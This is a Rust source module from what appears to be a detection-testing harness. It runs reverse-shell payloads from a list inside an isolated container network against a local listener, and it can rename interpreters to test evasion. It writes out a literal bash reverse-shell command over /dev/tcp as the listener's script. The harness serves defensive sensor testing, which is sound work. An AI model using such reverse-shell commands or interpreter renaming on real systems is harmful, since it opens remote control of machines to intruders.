//! One payload from its list to its end: its network, its other side, its cage, and what was
//! said. What the sensor saw of it is not known here.

use std::collections::BTreeMap;
use std::fs::{self, File};
use std::path::Path;

use anyhow::{Context, Result, bail};

use super::cage::{Parent, Spec};
use super::cgroup::Cgroup;
use super::conversation::{self, Outcome, TRACE};
use super::corpus::Payload;
use super::fill::{self, Values};
use super::listener::{HTTP_PORT, Listener, Mode, PORT, PORT2};
use super::network::{Address, Network};
use super::renamed::Renamed;
use super::root::Root;
use crate::cage::Cage;

/// What stands for `{shell}` where the list has no opinion.
const SHELL: &str = "/bin/bash";

/// One way to run a payload.
#[derive(Clone, Copy, Debug)]
pub(super) struct Way {
    pub(super) parent: Parent,
    pub(super) address: Address,
    pub(super) is_renamed: bool,
}

/// How it went, and which process namespace it was in. The namespace is kept, so that no other
/// gets its number.
pub(super) struct Ran {
    pub(super) outcome: Outcome,
    pub(super) namespace: u64,
    _kept: File,
    /// The end of what it wrote beside the connection.
    pub(super) log: String,
}

/// Runs a payload.
pub(super) fn run(payload: &Payload, way: Way, root: &Root, scratch: &Path) -> Result<Ran> {
    let missing = root.missing(payload);
    if !missing.is_empty() {
        bail!("Debian has no package {}", missing.join(", "));
    }
    let mode = Mode::of(payload)?;
    let network = Network::new(way.address)?;
    let cgroup = (way.parent == Parent::Systemd)
        .then(|| Cgroup::new("app"))
        .transpose()?;
    let spec = spec(payload, way, root, &network, scratch, cgroup.as_ref())?;
    let (ip, _) = network.peer_address();
    let script = format!("bash -c 'bash -i >& /dev/tcp/{ip}/{PORT} 0>&1'\n");
    let tls = scratch.join("tls");
    let listener = Listener::start(mode, payload.kind, &network, script, tls)?;
    let mut cage = Cage::start("payload-cage", &spec, network.server(), scratch)?;
    cage.ready()?;
    let (namespace, kept) = cage.namespace()?;
    let trace = payload.blind.then(|| cage.path(TRACE)).transpose()?;
    let outcome = conversation::converse(listener.heard(), trace.as_deref());
    drop(listener);
    Ok(Ran {
        outcome,
        namespace,
        _kept: kept,
        log: cage.end(),
    })
}

fn spec(
    payload: &Payload,
    way: Way,
    root: &Root,
    network: &Network,
    scratch: &Path,
    cgroup: Option<&Cgroup>,
) -> Result<Spec> {
    let resolve = |word: &str| root.program(word);
    let mut renamed = Renamed::new(&payload.id, &payload.interpreter, &resolve);
    let mut rewrite = |text: &str| {
        if way.is_renamed {
            renamed.rewrite(text)
        } else {
            text.to_owned()
        }
    };
    let shell = rewrite(payload.shell_hint.as_deref().unwrap_or(SHELL));
    let mut values = values(network, shell);
    for part in payload.encode.as_slice() {
        let mut part = part.clone();
        part.inner = rewrite(&part.inner);
        values.push((part.var.clone(), fill::encode(&part, &values)?));
    }
    let command = fill::fill(&rewrite(&payload.command), &values);
    let setup = payload.setup.as_slice().iter();
    let setup = setup
        .map(|line| fill::fill(&rewrite(line), &values))
        .collect();
    let shell = rewrite(&payload.host_shell);
    let place = scratch.join("mount");
    fs::create_dir_all(&place).with_context(|| format!("cannot make {}", place.display()))?;
    Ok(Spec {
        root: root.dir(),
        scratch: place,
        parent: way.parent,
        shell,
        command,
        setup,
        alternatives: root.alternatives(payload),
        copies: if way.is_renamed {
            renamed.copies
        } else {
            BTreeMap::new()
        },
        keep_stdin_open: payload.keep_stdin_open,
        cgroup: cgroup.map(|cgroup| cgroup.path().to_owned()),
    })
}

fn values(network: &Network, shell: String) -> Values {
    let (ip, ip6) = network.peer_address();
    [
        ("ip", ip.to_string()),
        ("ip6", ip6.to_string()),
        ("port", PORT.to_string()),
        ("port2", PORT2.to_string()),
        ("http_port", HTTP_PORT.to_string()),
        ("shell", shell),
    ]
    .map(|(name, value)| (name.to_owned(), value))
    .to_vec()
}
